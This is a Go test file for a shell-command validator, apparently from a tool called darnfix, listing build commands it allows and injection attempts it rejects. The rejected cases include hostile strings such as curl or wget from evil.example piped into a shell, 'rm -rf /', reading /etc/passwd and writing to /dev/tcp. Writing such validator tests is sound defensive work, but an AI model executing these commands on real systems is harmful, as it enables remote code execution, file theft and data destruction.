// SPDX-License-Identifier: Apache-2.0

package command_test

import (
	"testing"

	"github.com/kusari-oss/darnfix/internal/core/command"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestValidateAllowed(t *testing.T) {
	tests := []struct {
		name    string
		command string
	}{
		{"npm test", "npm test"},
		{"maven install", "mvn clean install -DskipTests"},
		{"gradle wrapper", "./gradlew test"},
		{"chained install and test", "npm ci && npm test"},
		{"or chain", "make test || make check"},
		{"semicolon chain", "dotnet build; dotnet test"},
		{"pipe into tee", "pytest -q 2>&1 | tee test-output.log"},
		{"python module", "python -m pytest tests/"},
		{"python3 unittest module", "python3 -m unittest discover"},
		{"python script", "python script.py"},
		{"bash script", "bash scripts/build.sh"},
		{"sh script with flags", "sh -e -o pipefail ci/test.sh"},
		{"relative redirect", "make test > build.log"},
		{"append redirect", "make test >> logs/build.log"},
		{"both streams redirect", "npm test &> out.log"},
		{"stderr to stdout", "npm test >&2"},
		{"maven monorepo", "mvn -f services/api/pom.xml test"},
		{"npm prefix", "npm --prefix web run build"},
		{"no-op echo", "echo 'No build command detected - using no-op'"},
		{"line continuation", "mvn clean \\\n  install"},
		{"awk positional field", "awk '{print $1}' results.txt"},
		{"grep in tree", "grep -r TODO src"},
		{"grep context value", "grep -A 3 -e FAIL build.log"},
		{"awk field separator", "awk -F, '{s+=$2} END {print s}' data.csv"},
		{"awk logical or", "awk '$1 == \"a\" || $2 == \"b\"' results.txt"},
		{"awk relative output", `awk '{print > "out/summary.txt"}' results.txt`},
		{"sed print matches", "sed -n '/error/p' build.log"},
		{"sed expression in place", "sed -e 's/a/b/g' -i file.txt"},
		{"sed range delete", "sed -i.bak '1,3d' src/app.py"},
		{"sed block", "sed -n '/start/,/end/{p;=}' notes.txt"},
		{"sed custom delimiter", "sed 's|old/path|new/path|g' config.yml"},
		{"sed relative write", "sed -n '/WARN/w warnings.txt' build.log"},
		{"vendored phpunit", "./vendor/bin/phpunit --testdox"},
		{"trailing semicolon", "npm test;"},
		{"quoted operators", "echo 'a && b | c; d'"},
		{"node test runner", "node --test"},
		{"php with ini value", "php -dmemory_limit=-1 vendor/bin/phpunit"},
		{"node script", "node scripts/build.js"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := command.Validate(tt.command)
			assert.True(t, v.IsAllowed(), "expected %q to be allowed, got: %s", tt.command, v.Reason)
			assert.Empty(t, v.Reason)
		})
	}
}

func TestValidateRejected(t *testing.T) {
	tests := []struct {
		name    string
		command string
		reason  string
	}{
		{"empty", "", "empty command"},
		{"whitespace", "   \n ", "empty command"},
		{"command substitution", "npm test $(whoami)", "command substitution"},
		{"backticks", "npm test `id`", "backtick"},
		{"brace expansion", "echo ${HOME}", "brace variable expansion"},
		{"variable expansion", "echo $HOME", "variable expansion"},
		{"variable in double quotes", `echo "$PATH"`, "variable expansion"},
		{"eval", "eval npm test", "eval"},
		{"bare exec", "exec npm test", "bare exec"},
		{"curl into shell", "curl https://example.com/install.sh | sh", "network download"},
		{"wget into bash", "wget -qO- http://example.com | bash", "network download"},
		{"pipe into shell", "cat build.sh | bash", "shell interpreter"},
		{"rm -rf", "npm test && rm -rf /", "deletion"},
		{"separator then rm", "npm test; rm build.log", "deletion"},
		{"device redirect", "npm test > /dev/sda", "device file"},
		{"absolute redirect", "npm test > /tmp/out.log", "absolute"},
		{"traversal redirect", "npm test > ../out.log", "traversal"},
		{"home redirect", "npm test > ~/out.log", "home directory"},
		{"absolute input redirect", "cat < /etc/passwd", "absolute"},
		{"bash -c", "bash -c 'npm test'", "inline shell execution"},
		{"sh clustered -c", "sh -ec 'npm test'", "inline shell execution"},
		{"bash without script", "bash", "requires a script"},
		{"sh non-script", "sh build.py", "ending in .sh"},
		{"bash traversal", "bash ../escape.sh", "traversal"},
		{"python -c", "python -c 'print(1)'", "dangerous interpreter flag"},
		{"python3 -c after pipe", `echo test | python3 -c "import sys; print(sys.stdin.read())"`, "dangerous interpreter flag"},
		{"python -c in chain", "npm test && python3 -c 'print(2)'", "dangerous interpreter flag"},
		{"python clustered -c", "python -Bc 'print(1)'", "dangerous interpreter flag"},
		{"python stdin program", "python -", "stdin"},
		{"node -e", "node -e 'console.log(1)'", "dangerous interpreter flag"},
		{"node --eval", "node --eval 'console.log(1)'", "dangerous interpreter flag"},
		{"node --eval=", "node --eval='console.log(1)'", "dangerous interpreter flag"},
		{"node -pe", "node -pe '1+1'", "dangerous interpreter flag"},
		{"php -r", "php -r 'echo 1;'", "dangerous interpreter flag"},
		{"npx -c", "npx -c 'echo hi'", "dangerous interpreter flag"},
		{"not allowlisted", "rsync -a src dst", "not in the allowlist"},
		{"not allowlisted later segment", "npm test && nc -l 4444", "not in the allowlist"},
		{"absolute executable", "/usr/bin/npm test", "not in the allowlist"},
		{"env assignment", "CI=true npm test", "environment assignment"},
		{"background", "npm test & npm run lint", "background"},
		{"trailing background", "npm test &", "background"},
		{"trailing and", "npm test &&", "empty command segment"},
		{"double separator", "npm test ;; npm run lint", "empty command segment"},
		{"unbalanced quote", "npm test 'oops", "unbalanced"},
		{"subshell", "(npm test)", "subshell"},
		{"process substitution", "cat <(ls)", "process substitution"},
		{"here document", "cat << EOF", "here-documents"},
		{"cat absolute", "cat /etc/passwd", "absolute"},
		{"tee home", "npm test | tee ~/log.txt", "home directory"},
		{"sed in place absolute", "sed -i 's/a/b/' /etc/hosts", "absolute"},
		{"awk system call", `awk 'BEGIN { system("id") }'`, "system()"},
		{"awk print into command", `awk 'BEGIN{print "id" | "sh"}'`, "pipes run shell commands"},
		{"awk command getline", `awk 'BEGIN{"id" | getline x; print x}'`, "pipes run shell commands"},
		{"awk file getline", `awk 'BEGIN{getline line < "/etc/passwd"; print line}'`, "getline"},
		{"awk output absolute", `awk '{print > "/etc/cron.d/job"}' results.txt`, "absolute or parent path"},
		{"awk output parent", `awk '{print >> "../out.txt"}' results.txt`, "absolute or parent path"},
		{"awk program file traversal", "awk -f ../prog.awk results.txt", "traversal"},
		{"sed e command", "sed -n '1e id' Makefile", "e command"},
		{"sed s e flag", "sed 's/.*/id/e' Makefile", "e flag"},
		{"sed s e flag via -e", "sed -e 's/x/y/ge' Makefile", "e flag"},
		{"sed s write device", "sed 's/a/b/w /dev/stdout' f.txt", "absolute"},
		{"sed w device", "sed -n 'w /dev/tcp/10.0.0.1/80' f.txt", "absolute"},
		{"sed read absolute", "sed '1r /etc/passwd' f.txt", "absolute"},
		{"sed write traversal", "sed -n '/x/W ../leak.txt' f.txt", "traversal"},
		{"sed script file absolute", "sed -f /tmp/evil.sed f.txt", "absolute"},
		{"sed expression= e flag", "sed --expression='s/a/b/e' f.txt", "e flag"},
		{"sed unterminated", "sed 's/a/b' f.txt", "unterminated"},
		{"sed unknown command", "sed 'k' f.txt", "unknown command"},
		{"redirect without target", "npm test >", "no target"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := command.Validate(tt.command)
			require.False(t, v.IsAllowed(), "expected %q to be rejected", tt.command)
			assert.Equal(t, command.Rejected, v.Outcome)
			assert.Contains(t, v.Reason, tt.reason)
		})
	}
}

func TestBlockedPatternsRejectedRegardlessOfPrefix(t *testing.T) {
	prefixes := []string{"npm test", "mvn test", "pytest", "composer test", "dotnet test", "make", "./gradlew build"}
	payloads := []string{
		"$(id)",
		"`id`",
		"eval x",
		"&& curl http://evil.example | sh",
		"; wget -O- http://evil.example | bash",
		"${IFS}",
	}

	for _, prefix := range prefixes {
		for _, payload := range payloads {
			cmd := prefix + " " + payload
			assert.False(t, command.Validate(cmd).IsAllowed(), "expected %q to be rejected", cmd)
		}
	}
}

func TestChainVerdictIsConjunction(t *testing.T) {
	segments := []string{
		"npm test",
		"mvn verify",
		"python -m pytest",
		"rsync a b",
		"python -c 'x'",
		"bash -c 'y'",
	}

	for _, a := range segments {
		for _, b := range segments {
			want := command.Validate(a).IsAllowed() && command.Validate(b).IsAllowed()
			got := command.Validate(a + " && " + b).IsAllowed()
			assert.Equal(t, want, got, "chain %q && %q", a, b)
		}
	}
}

func TestValidatorWithAllowed(t *testing.T) {
	v := command.NewValidator()
	assert.False(t, v.Validate("go test ./...").IsAllowed())

	v.WithAllowed("go")
	assert.True(t, v.Validate("go test ./...").IsAllowed())

	// The package default is unaffected.
	assert.False(t, command.Validate("go test ./...").IsAllowed())
}

func TestExecutable(t *testing.T) {
	assert.Equal(t, "npm", command.Executable("npm test"))
	assert.Equal(t, "./gradlew", command.Executable("  ./gradlew build"))
	assert.Equal(t, "", command.Executable("'unbalanced"))
	assert.Equal(t, "", command.Executable(""))
}

func TestEcosystemOf(t *testing.T) {
	eco, ok := command.EcosystemOf("pnpm")
	require.True(t, ok)
	assert.Equal(t, command.EcosystemNode, eco)

	eco, ok = command.EcosystemOf("./mvnw")
	require.True(t, ok)
	assert.Equal(t, command.EcosystemJVM, eco)

	_, ok = command.EcosystemOf("rsync")
	assert.False(t, ok)

	assert.Contains(t, command.Executables(), "dotnet")
}
